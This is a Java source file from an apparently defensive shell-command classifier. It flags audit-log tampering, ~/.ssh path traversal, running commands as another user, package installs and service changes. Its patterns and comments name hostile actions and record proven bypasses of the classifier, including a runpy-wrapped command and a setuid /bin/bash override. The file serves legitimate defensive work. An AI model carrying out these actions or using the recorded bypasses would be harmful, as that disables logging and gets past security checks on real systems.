   * components and none is {@code ..} ({@code ~/.ssh/../../../etc/passwd} is /etc/passwd: attack 17cl).
   */
  private static boolean underSshDirectory(String p) {
    return Regexes.matches(p, "(?s)(.*/)?\\.ssh(/.*)?") && !Regexes.matches(p, "(?s)(.*/)?\\.\\.(/.*)?");
  }

  /** A symbolic mode's clause ({@code go-rwx}, {@code u+rw=x}) and one operation in it. */
  private static final Pattern CHMOD_CLAUSE = Pattern.compile("([ugoa]*)((?:[-+=][rwxXst]*)+)");
  private static final Pattern CHMOD_OPERATION = Pattern.compile("([-+=])([rwxXst]*)");

  private static boolean restrictingSymbolicMode(String v) {
    if (v.isEmpty()) {
      return false;
    }
    for (String clause : v.split(",", -1)) {
      java.util.regex.Matcher m = CHMOD_CLAUSE.matcher(clause);
      if (!m.matches()) {
        return false;
      }
      String who = m.group(1);
      java.util.regex.Matcher op = CHMOD_OPERATION.matcher(m.group(2));
      while (op.find()) {
        boolean takes = op.group(1).equals("-") || op.group(1).equals("=") && op.group(2).isEmpty() && !who.isEmpty();
        boolean ownerOnly = !who.isEmpty() && who.chars().allMatch(ch -> ch == 'u') && op.group(2).indexOf('s') < 0;
        if (!takes && !ownerOnly) {
          return false;
        }
      }
    }
    return true;
  }

  /**
   * tar's mode letters: an old-style first word without a dash, and each short bundle's letters
   * up to the first that takes a value ({@code -cbf 20 F} is {@code cb}).
   */
  static String tarModes(List<String> av) {
    String first = !av.isEmpty() && !av.get(0).startsWith("-") ? av.get(0) : "";
    return av.stream().filter(v -> Regexes.matches(v, "-[^-].*")).map(v -> Regexes.replaceFirst(v, "[bCfFgHIKLNTVX].*", ""))
        .reduce(first, String::concat);
  }

  /** tar {@code --remove-files}: each member is removed once archived (all its words count). */
  private static boolean tarRemoves(ShellCommand c) {
    return Set.of("tar", "gtar", "bsdtar").contains(c.name())
        && c.argValues().stream().anyMatch(v -> v.length() > 3 && Wrappers.longOption(v, "remove-files"));
  }

  /** sed or perl editing their files in place ({@code -i}, in a bundle such as {@code -pi}, {@code --in-place}). */
  private static boolean inPlace(ShellCommand c) {
    return flag(c, 'i') || c.argValues().stream().anyMatch(v -> v.startsWith("--in-place"));
  }

  /**
   * {@code fallocate} taking data out of a file: {@code -p}/{@code --punch-hole} and {@code
   * -z}/{@code --zero-range} make a range zeros, {@code -c}/{@code --collapse-range} cuts it out
   * ({@code -d}/{@code --dig-holes} keeps the data, a plain length only grows the file).
   */
  private static boolean fallocateDestroys(ShellCommand c) {
    return c.name().equals("fallocate") && (flag(c, 'p') || flag(c, 'z') || flag(c, 'c') || c.argValues().stream()
        .anyMatch(v -> Regexes.matches(v, "--(punch-hole|zero-range|collapse-range|insert-range)")));
  }

  private static boolean auditTamper(ShellCommand c) {
    String n = c.name();
    if (n.equals("find")) {
      return findWritesLogs(c);
    }
    if (n.equals("auditctl")) {
      return flag(c, 'D') || flag(c, 'e') || flag(c, 'd') || flag(c, 'W') || flag(c, 'R');
    }
    if (n.equals("setenforce")) {
      return operands(c).stream().anyMatch(w -> w.value().equals("0") || w.value().equalsIgnoreCase("permissive"));
    }
    if (n.equals("aa-teardown") || n.equals("aa-disable") || n.equals("aa-complain")) {
      return true;
    }
    if (n.equals("journalctl")) {
      // getopt_long takes any unique prefix (--rot is --rotate, --smart is --smart-relinquish-var; an
      // ambiguous one is an error, so refusing it costs nothing); --setup-keys --force replaces the
      // sealing key the journal's files are verified with.
      return c.argValues().stream().anyMatch(v -> v.startsWith("--vacuum") || Wrappers.longOption(v, "rotate")
          || Wrappers.longOption(v, "relinquish-var") || Wrappers.longOption(v, "smart-relinquish-var")
          || Wrappers.longOption(v, "setup-keys"));
    }
    if (n.equals("systemctl")) {
      String verb = systemctlVerb(c);
      // condstop is stop; the restarting verbs stop the logger as restart does
      return verb != null && Set.of("stop", "disable", "mask", "kill", "restart", "edit", "revert", "freeze", "condstop",
          "try-restart", "condrestart", "reload-or-restart", "try-reload-or-restart", "reload-or-try-restart").contains(verb)
          && operands(c).stream().anyMatch(w -> LOG_SERVICES.contains(w.value()));
    }
    if (n.equals("service") || n.equals("rc-service") || n.equals("invoke-rc.d")) {
      List<Word> ops = operands(c);
      return ops.size() >= 2 && LOG_SERVICES.contains(ops.get(0).value())
          && Set.of("stop", "restart", "force-stop", "disable").contains(ops.get(1).value());
    }
    if (c.path().startsWith("/etc/init.d/") && LOG_SERVICES.contains(n)) {
      return operands(c).stream().anyMatch(w -> Set.of("stop", "restart").contains(w.value()));
    }
    if (KILLERS.contains(n)) {
      return operands(c).stream().anyMatch(w -> LOG_SERVICES.contains(w.value()));
    }
    if (ARCHIVERS.contains(n) && !tarRemoves(c)) {
      return intoDirectory(c).stream().anyMatch(p -> PathPatterns.couldMatch(LOG_FILE, p));
    }
    if (REMOVERS.contains(n) || n.equals("chattr") || n.equals("logrotate") && flag(c, 'f') || installsFiles(c) || tarRemoves(c)
        || fallocateDestroys(c)) {
      return writtenArgs(c).stream().anyMatch(w -> PathPatterns.couldMatch(LOG_FILE, stripOption(w.value())))
          || intoDirectory(c).stream().anyMatch(p -> PathPatterns.couldMatch(LOG_FILE, p));
    }
    if (n.equals("sed") || n.equals("perl")) {
      return (flag(c, 'i') || c.argValues().stream().anyMatch(v -> v.startsWith("--in-place")))
          && operands(c).stream().anyMatch(w -> PathPatterns.couldMatch(LOG_FILE, w.value()));
    }
    return false;
  }

  /**
   * Programs that run their command as another user or group by an option, as sudo does (attack
   * 17cm): setpriv's {@code --reuid}/{@code --ruid}/{@code --euid}/{@code --regid}/{@code
   * --rgid}/{@code --egid}/{@code --groups}/{@code --init-groups} (any prefix: util-linux reads them
   * with getopt_long), capsh's {@code --user=}/{@code --uid=}/{@code --gid=}/{@code --groups=},
   * chroot's {@code --userspec}/{@code --groups}, start-stop-daemon's {@code -c}/{@code --chuid},
   * chpst's {@code -u}/{@code -U}, and sg (its command runs with the group it names).
   */
  private static boolean runsAsOtherUser(ShellCommand c) {
    List<String> a = c.argValues();
    return switch (c.name()) {
      case "setpriv" -> a.stream().anyMatch(v -> java.util.stream.Stream.of("reuid", "ruid", "euid", "regid", "rgid", "egid", "groups",
          "init-groups").anyMatch(o -> Wrappers.longOption(v, o)));
      case "capsh" -> a.stream().anyMatch(v -> Regexes.matches(v, "--(user|uid|gid|groups)=.*"));
      case "chroot" -> a.stream().anyMatch(v -> Wrappers.longOption(v, "userspec") || Wrappers.longOption(v, "groups"));
      case "start-stop-daemon" -> a.stream().anyMatch(v -> Regexes.matches(v, "-c.*") || Wrappers.longOption(v, "chuid"));
      case "chpst" -> a.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*[uU].*"));
      case "sg" -> true;
      // daemonize -u USER (daemonize(1)) and sops exec-env/exec-file --user USER run the command as
      // USER (attack 17cp); daemonize's options end at its program
      case "daemonize" -> {
        for (int i = 0; i < a.size() && a.get(i).startsWith("-"); i++) {
          if (Regexes.matches(a.get(i), "-[a]*u.*")) {
            yield true;
          }
          if (Regexes.matches(a.get(i), "-[a]*[ceEolpu]")) {
            i++;
          }
        }
        yield false;
      }
      case "sops" -> (a.contains("exec-env") || a.contains("exec-file"))
          && a.stream().anyMatch(v -> v.equals("--user") || v.startsWith("--user="));
      default -> false;
    };
  }

  private static boolean packageChange(ShellCommand c) {
    String n = c.name();
    if (Regexes.matches(n, "python[0-9.]*|pypy[0-9.]*") && Runners.pythonModule(n, c.args()) != null) {
      // python3 -m poetry add is poetry add (attack 17cp)
      var mod = Runners.pythonModule(n, c.args());
      return packageChange(new ShellCommand(mod.getKey(), mod.getKey(), mod.getValue(), c.text(), c.via(), c.stdin(),
          c.upstream()));
    }
    if (Regexes.matches(n, "python[0-9.]*|pypy[0-9.]*")) {
      // python3 -m pip is pip (a wheel's .pth runs in every later Python); ensurepip installs pip.
      List<String> m = PythonRun.read(c.argValues()).resolvedModule();
      return m != null && (m.get(0).equals("ensurepip") || m.get(0).equals("pip") && m.stream().skip(1)
          .filter(v -> !v.startsWith("-")).findFirst().filter(PIP_VERBS::contains).isPresent());
    }
    if (Regexes.matches(n, "pip[0-9.]+")) {
      n = "pip";
    }
    Set<String> verbs = switch (n) {
      // satisfy installs what a dependency string needs; dselect-upgrade follows the selections (every upgrade)
      case "apt", "apt-get", "aptitude", "nala" -> Set.of("install", "remove", "purge", "upgrade", "dist-upgrade",
          "full-upgrade", "autoremove", "autopurge", "reinstall", "build-dep", "markauto", "unmarkauto", "safe-upgrade",
          "satisfy", "dselect-upgrade");
      // dnf's aliases (in, rm, up, rei, dg, dsync…: dnf(8) "Commands"), its repositories (config-manager, copr: attack 17cm)
      case "yum", "dnf", "microdnf", "tdnf", "dnf5" -> Set.of("install", "remove", "erase", "update", "upgrade", "downgrade",
          "reinstall", "autoremove", "swap", "group", "groupinstall", "groupremove", "localinstall", "update-minimal",
          "distro-sync", "module", "upgrade-minimal", "mark", "history", "in", "rm", "up", "rei", "dg", "dsync",
          "distrosync", "distribution-synchronization", "upgrade-to", "update-to", "localupdate", "groupupdate",
          "grouperase", "builddep");
      case "zypper" -> Set.of("in", "install", "rm", "remove", "up", "update", "dup", "dist-upgrade", "patch", "si",
          "source-install", "ar", "addrepo", "rr", "removerepo");
      case "apk" -> Set.of("add", "del", "upgrade", "fix");
      case "snap" -> Set.of("install", "remove", "refresh", "revert", "disable", "enable");
      case "flatpak" -> Set.of("install", "uninstall", "update", "remove");
      case "pip", "pip3" -> PIP_VERBS;
      // pipx's other verbs install too; uv pip install / uv tool install (attack 17cm)
      case "pipx" -> Set.of("install", "uninstall", "inject", "upgrade", "upgrade-all", "reinstall", "reinstall-all",
          "uninject", "uninstall-all", "install-all");
      case "uv" -> Set.of("install", "uninstall");
      case "cargo" -> c.argValues().contains("--list") ? Set.of("uninstall") : Set.of("install", "uninstall");
      case "go" -> Set.of("install");
      // RubyGems takes a command by any unambiguous prefix (gem i, gem ins, gem upd) and has aliases (attack 17cm)
      case "gem" -> Set.of("install", "uninstall", "update", "i", "in", "ins", "inst", "insta", "instal", "un", "uni", "unin",
          "unins", "uninst", "uninsta", "uninstal", "upd", "upda", "updat");
      // npm's aliases (npm help install: i, in, ins, inst, insta, instal, isnt…; rm, r, un, unlink; up,
      // upgrade, udpate: attack 17cm), link/ln (a symlink in the global folder)
      case "npm", "pnpm", "yarn", "bun" -> Set.of("install", "i", "uninstall", "remove", "update", "add", "in", "ins",
          "inst", "insta", "instal", "isnt", "isnta", "isntal", "isntall", "rm", "r", "un", "unlink", "up", "upgrade",
          "udpate", "link", "ln");
      case "brew", "port", "pkg", "pkg_add", "emerge", "nix-env", "xbps-install", "xbps-remove", "eopkg", "slackpkg",
          "swupd", "conda", "mamba" -> null;
      default -> Set.of();
    };
    if (verbs == null) {
      return true;
    }
    if (!verbs.isEmpty()) {
      if (Set.of("npm", "pnpm", "yarn", "bun").contains(n)) {
        // global by -g, --global[=true], --location=global, --location global (npm 8+), and yarn global add (attack 17cm)
        List<String> a = c.argValues();
        // nopt expands a bundle of one-letter flags (npm i -gD PKG is -g -D: attack 17cv, proven)
        boolean global = a.contains("-g") || a.stream().anyMatch(v -> Regexes.matches(v, "--global(=true)?|-g=true|--location=global"
            + "|-[A-Za-z]*g[A-Za-z]*"))
            || Collections.indexOfSubList(a, List.of("--location", "global")) >= 0;
        List<Word> ops = operands(c);
        boolean verb = ops.stream().limit(2).anyMatch(w -> verbs.contains(w.value()));
        return verb && global || n.equals("yarn") && firstOperandIn(c, Set.of("global"));
      }
      if (n.equals("uv")) {
        // uv self update replaces uv itself; uv add/sync are the project's own (its .venv)
        return firstOperandIn(c, Set.of("pip", "tool")) && operands(c).size() > 1
            && Set.of("install", "uninstall", "sync").contains(operands(c).get(1).value()) || firstOperandIn(c, verbs)
            || verbAmongOperands(c, Set.of("self")) && !readsOnly(c, Set.of("self"));
      }
      if (n.equals("dnf") || n.equals("yum") || n.equals("dnf5") || n.equals("microdnf") || n.equals("tdnf") || n.equals("pip")) {
        // options with a value before the verb: dnf --enablerepo epel install, pip --proxy P install (attack 17cm)
        String verb = verbAfterOptions(c.argValues(), n.equals("pip") ? PIP_WITH_ARG : DNF_WITH_ARG);
        List<Word> ops = operands(c);
        return firstOperandIn(c, verbs) || verbs.contains(verb)
            || !n.equals("pip") && verb.equals("config-manager") && c.argValues().stream()
                .anyMatch(v -> Regexes.matches(v, "--(add-repo|addrepo|set-enabled|set-disabled|enable|disable|save|setopt).*|addrepo|setopt|setvar"))
            || !n.equals("pip") && verb.equals("copr") && ops.stream().anyMatch(w -> Set.of("enable", "disable", "remove").contains(w.value()));
      }
      if (Set.of("apt", "apt-get", "aptitude", "nala").contains(n)) {
        return firstOperandIn(c, verbs) || verbs.contains(aptVerb(c));
      }
      return firstOperandIn(c, verbs);
    }
    return switch (n) {
      case "dpkg" -> flag(c, 'i') || flag(c, 'r') || flag(c, 'P') || c.argValues().stream().anyMatch(v ->
          Set.of("--install", "--remove", "--purge", "--unpack", "--configure", "--set-selections",
              "--clear-selections", "--force-all").contains(v) || v.startsWith("--force"));
      case "rpm" -> flag(c, 'i') && !flag(c, 'q') || flag(c, 'U') || flag(c, 'F') || flag(c, 'e')
          || c.argValues().stream().anyMatch(v -> Set.of("--install", "--upgrade", "--freshen", "--erase", "--reinstall").contains(v));
      // getopt_long: --sy, --rem, --upg are --sync, --remove, --upgrade (attack 17cm)
      case "pacman", "yay", "paru" -> c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-[SRU][A-Za-z]*|--(sync|remove|upgrade)")
          || Wrappers.longOption(v, "sync", "s") || Wrappers.longOption(v, "remove", "r", "re") || Wrappers.longOption(v, "upgrade", "u"))
          && !c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-S[a-z]*[sil][a-z]*") && !v.contains("y") && !v.contains("u"));
      case "dpkg-reconfigure", "update-alternatives", "alternatives", "add-apt-repository", "apt-key", "rpmkeys" ->
          !c.argValues().contains("--list") && !c.argValues().contains("--display") && !c.argValues().contains("--query");
      // holds and diversions change what the next upgrade installs; language package managers install code
      case "apt-mark" -> verbAmongOperands(c, Set.of("hold", "unhold", "auto", "manual", "minimize-manual", "markauto",
          "unmarkauto", "install", "remove", "purge"));
      // dpkg-statoverride --add/--remove: an owner and mode dpkg sets on a package's file at every
      // install (--update at once: 4755 on /bin/bash), as dpkg-divert's diversions (attack 17cq)
      case "dpkg-statoverride" -> c.argValues().stream().anyMatch(v -> v.equals("--add") || v.equals("--remove")
          || v.equals("--update") || v.equals("--import"));
      // nix profile install/add/remove/upgrade/rollback: nix-env's, which is package-change (attack 17cq)
      case "nix" -> {
        List<String> v = c.argValues();
        int at = v.indexOf("profile");
        yield at >= 0 && v.subList(at + 1, v.size()).stream().filter(w -> !w.startsWith("-")).findFirst()
            .map(w -> Set.of("install", "add", "remove", "upgrade", "rollback").contains(w)).orElse(false);
      }
      case "dpkg-divert" -> !c.argValues().stream().allMatch(v -> Set.of("--list", "--listpackage", "--truename", "--help",
          "--version", "--quiet").contains(v) || !v.startsWith("-") && c.argValues().stream().anyMatch(o ->
              Set.of("--list", "--listpackage", "--truename").contains(o)));
      // cpanm's -v is --verbose, -l/-L DIR install into DIR (cpan's -l and -v list and print; attack 17cp)
      case "cpan", "cpanp" -> !c.args().isEmpty() && c.argValues().stream().noneMatch(v -> Set.of("-l", "-V", "-v",
          "-h", "--help", "--version", "--info", "-D", "-O").contains(v));
      case "cpanm" -> !c.args().isEmpty() && c.argValues().stream().noneMatch(v -> Set.of("-V", "--version", "-h", "--help",
          "--info").contains(v));
      case "rustup" -> rustupChange(c);
      // the verb after the tool's global options and their values (poetry -C DIR add: attack 17cp);
      // self/dep followed by show/list/hash only read.
      // Bundler installs into the system's gem directory unless a path is configured: every install
      // is beyond the project, and i is install's alias.
      case "bundle", "bundler" -> verbAmongOperands(c, Set.of("add", "remove", "install", "uninstall", "update", "sync",
          "require", "upgrade", "clean", "pip", "i"))
          || verbAmongOperands(c, Set.of("self", "dep")) && !readsOnly(c, Set.of("self", "dep"));
      // The Python project tools install into the project's own virtualenv, as npm and yarn install
      // into node_modules and uv into .venv: the project's business. Beyond it: the tool itself
      // (self), pdm's -g/--global (its global project) and pipenv's --system (the system's Python).
      // pdm's -g by argparse's prefixes and bundles (--gl, -vg: attack 17cv); poetry config virtualenvs.create
      // false (every later install into the Python poetry runs under, the system's)
      case "poetry", "pdm", "hatch" -> verbAmongOperands(c, Set.of("self")) && !readsOnly(c, Set.of("self"))
          || n.equals("pdm") && c.argValues().stream().anyMatch(ShellClass::pdmGlobal)
          || n.equals("poetry") && verbAmongOperands(c, Set.of("config")) && poetryNoVirtualenv(c.args());
      case "pipenv" -> c.argValues().stream().anyMatch(v -> v.startsWith("--sys") || v.equals("--site-packages"));
      case "composer" -> composerChange(c);
      // kubectl krew install PLUGIN (kubectl's plugin manager, read as kubectl-krew: attack 17cv) puts a program on PATH
      case "kubectl-krew", "krew" -> verbAmongOperands(c, Set.of("install", "upgrade", "uninstall", "remove", "rm"));
      default -> false;
    };
  }

  /** apt's verb: the first word that is neither an option nor the value of {@code -o}, {@code -c}, {@code -t}, {@code -a}, {@code -P}. */
  private static String aptVerb(ShellCommand c) {
    List<String> a = c.argValues();
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i);
      if (Regexes.matches(v, "--(option|config-file|target-release|default-release|host-architecture|build-profiles)")
          || Regexes.matches(v, "-[^-]*[octaP]")) {
        i++;
      } else if (!v.startsWith("-")) {
        return v.toLowerCase(Locale.ROOT);
      }
    }
    return "";
  }

  /** pip's general options that take the next word as their value (optparse also takes a unique prefix of each). */
  private static final Set<String> PIP_WITH_ARG = Set.of("--python", "--log", "--log-file", "--proxy", "--retries",
      "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--cache-dir", "--use-feature",
      "--use-deprecated", "--keyring-provider", "--resume-retries");

  /** dnf's and yum's options that take the next word as their value. */
  private static final Set<String> DNF_WITH_ARG = Set.of("-c", "--config", "-d", "--debuglevel", "-e", "--errorlevel",
      "-x", "--exclude", "--releasever", "--installroot", "--enablerepo", "--disablerepo", "--repo", "--repoid",
      "--setopt", "--rpmverbosity", "--color", "--destdir", "--downloaddir", "--comment", "--forcearch", "--repofrompath",
      "--disableplugin", "--enableplugin", "--advisory", "--advisories", "--bz", "--cve", "--sec-severity", "--secseverity");

  /** The first word that is neither an option nor the value of one in {@code withArg} (a long one by its unique prefix). */
  private static String verbAfterOptions(List<String> a, Set<String> withArg) {
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i);
      if (v.equals("--")) {
        return i + 1 < a.size() ? a.get(i + 1).toLowerCase(Locale.ROOT) : "";
      }
      if (!v.startsWith("-") || v.equals("-")) {
        return v.toLowerCase(Locale.ROOT);
      }
      if (!v.contains("=") && (withArg.contains(v)
          || v.startsWith("--") && v.length() > 3 && withArg.stream().anyMatch(o -> o.startsWith("--") && o.startsWith(v)))) {
        i++;
      }
    }
    return "";
  }

  /** pip's download and wheel build a source distribution by running its setup code. */
  private static final Set<String> PIP_VERBS = Set.of("install", "uninstall", "download", "wheel");

  /**
   * How python reads its program, by its options: a script (its directory first on {@code
   * sys.path}), {@code -m MOD} (the working directory first; {@code module} holds MOD and the words
   * after it), {@code -c} code or its input; {@code isolated} with {@code -I} or {@code -P} before
   * it (no such directory on the path).
   */
  record PythonRun(boolean script, List<String> module, boolean isolated) {
    /**
     * The module that runs in the end and its words: {@code MOD.__main__} is {@code MOD} (a
     * package's {@code __main__} run as the program), and the module runners run the module they
     * are given after their own words: {@code runpy MOD}, {@code cProfile}/{@code profile ... -m
     * MOD}, {@code trace ... --module MOD} (argparse and optparse take a long option's unambiguous
     * prefix). Attack 17cq, proven: {@code python3 -m runpy dotenv run CMD}, {@code -m cProfile -m
     * dotenv run CMD}, {@code -m dotenv.__main__ run CMD} ran CMD; {@code -m runpy http.server}
     * serves the directory, {@code -m pip.__main__ install} installs. Null without {@code -m}.
     */
    List<String> resolvedModule() {
      List<String> m = module;
      for (int hops = 0; m != null && !m.isEmpty() && hops < 8; hops++) {
        String mod = m.get(0).endsWith(".__main__") ? m.get(0).substring(0, m.get(0).length() - 9) : m.get(0);
        List<String> rest = m.subList(1, m.size());
        List<String> next = null;
        if (mod.equals("runpy")) {
          next = rest.isEmpty() ? null : rest;
        } else if (mod.equals("cProfile") || mod.equals("profile")) {
          for (int k = 0; k < rest.size(); k++) {
            String w = rest.get(k);
            if (w.startsWith("-m")) {
              next = new ArrayList<>();
              if (w.length() > 2) {
                next.add(w.substring(2));
              }
              next.addAll(rest.subList(k + 1, rest.size()));
              break;
            }
            if (w.equals("-o") || w.equals("-s") || w.startsWith("--") && w.indexOf('=') < 0 && w.length() >= 3
                && ("--outfile".startsWith(w) || "--sort".startsWith(w))) {
              k++;
            } else if (!w.startsWith("-") || w.equals("-")) {
              break; // the script
            }
          }
        } else if (mod.equals("trace")) {
          boolean module = false;
          for (int k = 0; k < rest.size(); k++) {
            String w = rest.get(k);
            if (w.length() >= 4 && "--module".startsWith(w)) {
              module = true;
            } else if (w.equals("-f") || w.equals("-C") || w.length() >= 3 && w.indexOf('=') < 0
                && java.util.stream.Stream.of("--file", "--coverdir", "--ignore-module", "--ignore-dir").anyMatch(o -> o.startsWith(w))) {
              k++;
            } else if (!w.startsWith("-") || w.equals("-")) {
              next = module ? rest.subList(k, rest.size()) : null;
              break;
            }
          }
        }
        if (next == null || next.isEmpty()) {
          List<String> out = new ArrayList<>();
          out.add(mod);
          out.addAll(rest);
          return out;
        }
        m = next;
      }
      return m;
    }

    static PythonRun read(List<String> av) {
      boolean isolated = false;
      for (int i = 0; i < av.size(); i++) {
        String v = av.get(i);
        if (v.equals("--check-hash-based-pycs")) {
          i++;
          continue;
        }
        if (v.startsWith("--") && v.length() > 2) {
          continue;
        }
        if (v.equals("--") && i + 1 < av.size() && !av.get(i + 1).equals("-") || !v.startsWith("-")) {
          return new PythonRun(true, null, isolated);
        }
        if (v.equals("-") || v.equals("--")) {
          return new PythonRun(false, null, isolated);
        }
        for (int j = 1; j < v.length(); j++) {
          char ch = v.charAt(j);
          if (ch == 'I' || ch == 'P') {
            isolated = true;
          } else if (ch == 'c') {
            return new PythonRun(false, null, isolated);
          } else if (ch == 'm') {
            List<String> out = new ArrayList<>();
            if (j + 1 < v.length()) {
              out.add(v.substring(j + 1));
            }
            out.addAll(av.subList(j + 1 < v.length() ? i + 1 : Math.min(i + 1, av.size()), av.size()));
            return new PythonRun(false, out.isEmpty() ? null : out, isolated);
          } else if (ch == 'W' || ch == 'X') {
            if (j + 1 == v.length()) {
              i++;
            }
            break;
          }
        }
      }
      return new PythonRun(false, null, isolated);
    }
  }

  private static boolean serviceChange(ShellCommand c) {
    String n = c.name();
    if (n.equals("systemd-analyze")) {
      // systemd-analyze log-level/log-target VALUE set the manager's as systemctl log-level does (attack 17cq)
      List<Word> ops = operands(c);
      return ops.size() > 1 && Set.of("log-level", "log-target").contains(ops.get(0).value());
    }
    if (n.equals("systemctl")) {
      String verb = systemctlVerb(c);
      if (verb != null && verb.endsWith("log-level") || verb != null && verb.endsWith("log-target")) {
        // without a value these print the current one; service-log-* take the unit first
        return operands(c).size() > (verb.startsWith("service-") ? 2 : 1);
      }
      return verb != null && SYSTEMCTL_CHANGE.contains(verb);
    }
    if (n.equals("service") || n.equals("rc-service") || n.equals("invoke-rc.d")) {
      List<Word> ops = operands(c);
      return ops.size() >= 2 && !Set.of("status", "describe").contains(ops.get(1).value()) || c.argValues().contains("--full-restart");
    }
    if (c.path().startsWith("/etc/init.d/") || c.path().startsWith("/etc/rc.d/")) {
      return operands(c).stream().anyMatch(w -> !w.value().equals("status"));
    }
    return switch (n) {
      case "update-rc.d", "chkconfig", "rc-update", "systemd-run", "insserv", "sysv-rc-conf" ->
          !(n.equals("chkconfig") && (c.args().isEmpty() || c.argValues().contains("--list")))
              && !(n.equals("rc-update") && (firstOperandIn(c, Set.of("show")) || c.args().isEmpty()));
      case "initctl", "start", "stop", "restart", "reload" -> !n.equals("initctl")
          || firstOperandIn(c, Set.of("start", "stop", "restart", "reload", "emit", "reload-configuration"));
      // -c FILE, -s URL, -u USER, -p PASS, -r FILE take the next word (supervisorctl -c F restart all: attack 17cm)
      case "supervisorctl" -> Set.of("start", "stop", "restart", "reload", "update", "shutdown", "remove", "add", "signal",
          "clear").contains(verbAfterOptions(c.argValues(), Set.of("-c", "--configuration", "-s", "--serverurl", "-u",
              "--username", "-p", "--password", "-r", "--history-file")));
      case "launchctl" -> firstOperandIn(c, Set.of("load", "unload", "bootstrap", "bootout", "kickstart", "stop", "start",
          "enable", "disable", "remove", "submit"));
      case "sv", "s6-svc", "runsv" -> true;
      case "docker", "podman", "nerdctl", "docker-compose", "podman-compose", "podman-remote", "finch" -> containerLifecycle(c);
      // the runtimes under them and system containers (attack 17cp): crictl's and ctr's verbs, LXD/Incus
      case "crictl" -> verbAmongOperands(c, Set.of("stop", "stopp", "rm", "rmp", "start", "update", "runp", "run"));
      case "ctr" -> {
        List<String> a = c.argValues();
        yield verbCandidates(a).stream().anyMatch(i -> Set.of("task", "tasks", "t", "container", "containers", "c")
            .contains(a.get(i)) && a.subList(i + 1, a.size()).stream().filter(w -> !w.startsWith("-")).findFirst()
            .filter(v -> Set.of("kill", "pause", "resume", "start", "delete", "del", "remove", "rm").contains(v)).isPresent());
      }
      case "lxc", "incus" -> verbAmongOperands(c, Set.of("stop", "start", "restart", "delete", "pause", "rm"));
      case "lxc-stop", "lxc-start", "lxc-destroy", "lxc-freeze", "lxc-unfreeze", "lxc-autostart" ->
          !c.argValues().contains("--help") && !c.argValues().contains("-h") && !c.argValues().contains("--version");
      // virtual machines and containers by their managers; a service by its own control program
      case "virsh" -> firstOperandIn(c, Set.of("destroy", "shutdown", "reboot", "reset", "suspend", "resume", "undefine",
          "start", "managedsave", "autostart"));
      case "machinectl" -> firstOperandIn(c, Set.of("poweroff", "reboot", "terminate", "kill", "stop", "start", "enable",
          "disable", "remove"));
      case "nginx", "openresty" -> c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-s(stop|quit|reload|reopen)?"));
      case "apachectl", "apache2ctl", "httpd", "apache2" -> c.argValues().stream().anyMatch(v -> Regexes.matches(v,
          "stop|start|restart|graceful|graceful-stop|-k(stop|start|restart|graceful|graceful-stop)?"));
      case "mysqladmin", "mariadb-admin" -> c.argValues().stream().anyMatch(v -> Set.of("shutdown", "kill", "stop-replica",
          "stop-slave", "start-replica", "start-slave").contains(v.toLowerCase(Locale.ROOT)));
      case "redis-cli", "valkey-cli" -> c.argValues().stream().anyMatch(v -> Regexes.matches(v.toLowerCase(Locale.ROOT),
          "(?s)\\s*(shutdown|replicaof|slaveof|debug|failover)\\b.*"));
      case "rabbitmqctl" -> firstOperandIn(c, Set.of("stop", "stop_app", "start_app", "reset", "force_reset", "shutdown"));
      case "postfix" -> firstOperandIn(c, Set.of("stop", "start", "reload", "abort", "upgrade-configuration"));
      default -> false;
    };
  }

  /**
   * Whether one of {@code verbs} is the tool's verb: the first operand, or a later one where each
   * word before it may be the value of the option word before that (a global option's value:
   * {@code poetry -C /srv add}, {@code apt-mark -o X=Y hold}, {@code podman --url U --identity I
   * stop}). Fails closed: an option taking no value is not known here, so the word after it counts
   * both ways (attack 17cp).
   */
  static boolean verbAmongOperands(ShellCommand c, Set<String> verbs) {
    return verbCandidates(c.argValues()).stream().anyMatch(i -> verbs.contains(c.argValues().get(i).toLowerCase(Locale.ROOT)));
  }

  /** The indexes of the words that may be the verb (see {@link #verbAmongOperands}). */
  static List<Integer> verbCandidates(List<String> a) {
    List<Integer> out = new ArrayList<>();
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i);
      if (v.equals("--")) {
        if (i + 1 < a.size()) {
          out.add(i + 1);
        }
        break;
      }
      if (v.startsWith("-") && !v.equals("-")) {
        continue;
      }
      out.add(i);
      boolean mayBeValue = i > 0 && a.get(i - 1).startsWith("-") && !a.get(i - 1).equals("-") && !a.get(i - 1).contains("=");
      if (!mayBeValue) {
        break;
      }
    }
    return out;
  }

  /** The word after the verb (one of {@code verbs}) is show, list, hash or help, or help is asked for. */
  private static boolean readsOnly(ShellCommand c, Set<String> verbs) {
    List<String> a = c.argValues();
    if (a.contains("--help") || a.contains("-h")) {
      return true;
    }
    for (int i : verbCandidates(a)) {
      if (verbs.contains(a.get(i))) {
        List<String> after = a.subList(i + 1, a.size()).stream().filter(v -> !v.startsWith("-")).toList();
        return !after.isEmpty() && Set.of("show", "list", "hash", "help", "ls", "version").contains(after.get(0));
      }
    }
    return false;
  }

  /**
   * rustup's changes: its verb after {@code +TOOLCHAIN} and the options ({@code rustup +stable
   * toolchain link …}), {@code up}/{@code upgrade} (update's aliases); only the word right after the
   * verb being {@code list}/{@code help} (or {@code --help}) reads: {@code rustup toolchain link show
   * DIR} links a toolchain named show (attack 17cp, proven); {@code rustup default} alone prints it.
   */
  private static boolean rustupChange(ShellCommand c) {
    List<String> a = Runners.withoutToolchainOverride(c.args()).stream().map(Word::value).toList();
    Set<String> change = Set.of("install", "uninstall", "update", "up", "upgrade", "default", "toolchain", "component",
        "target", "self", "override", "set");
    for (int i : verbCandidates(a)) {
      String verb = a.get(i);
      if (change.contains(verb)) {
        List<String> after = a.subList(i + 1, a.size()).stream().filter(v -> !v.startsWith("-")).toList();
        // list/help are subcommands of the verbs that have them; to default, install, update they name a toolchain
        Set<String> groups = Set.of("toolchain", "component", "target", "override", "self", "set");
        boolean reads = a.contains("--help") || a.contains("-h")
            || groups.contains(verb) && !after.isEmpty() && Set.of("list", "help").contains(after.get(0))
            || after.isEmpty() && (verb.equals("default") || groups.contains(verb));
        if (!reads) {
          return true;
        }
      }
    }
    return false;
  }

